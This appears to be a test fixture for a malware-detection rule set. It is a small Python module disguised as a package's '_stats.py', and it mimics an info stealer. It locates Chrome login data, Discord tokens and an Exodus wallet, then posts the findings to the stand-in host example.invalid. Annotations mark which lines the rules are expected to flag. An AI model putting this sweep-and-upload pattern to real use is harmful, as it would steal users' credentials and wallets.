# canary-test: path=mypkg/_stats.py artifact=wheel
# An info stealer's sweep of browser, chat and wallet stores, sent to a
# webhook. Inert: it records only which stores exist, and posts to example.invalid.
import json
import os
import urllib.request

LOCAL = os.environ.get("LOCALAPPDATA", "")
ROAMING = os.environ.get("APPDATA", "")
# ruleid: CREDENTIAL_PATH_ACCESS, CREDENTIAL_EXFILTRATION
CHROME = os.path.join(LOCAL, "Google", "Chrome", "User Data")
# ruleid: CREDENTIAL_PATH_ACCESS, CREDENTIAL_EXFILTRATION
LOGINS = os.path.join(CHROME, "Default", "Login Data")
# ruleid: CREDENTIAL_PATH_ACCESS, CREDENTIAL_EXFILTRATION
DISCORD = os.path.join(ROAMING, "discord", "Local Storage", "leveldb")
# ruleid: CREDENTIAL_PATH_ACCESS, CREDENTIAL_EXFILTRATION
WALLET = os.path.join(ROAMING, "Exodus", "exodus.wallet")


def collect():
    return {p: os.path.exists(p) for p in (LOGINS, DISCORD, WALLET)}


def send():
    body = json.dumps(collect()).encode()
    # ruleid: CREDENTIAL_EXFILTRATION
    urllib.request.urlopen("https://example.invalid/c", data=body, timeout=5)

# ok: CREDENTIAL_FILE_REFERENCE
_ = None
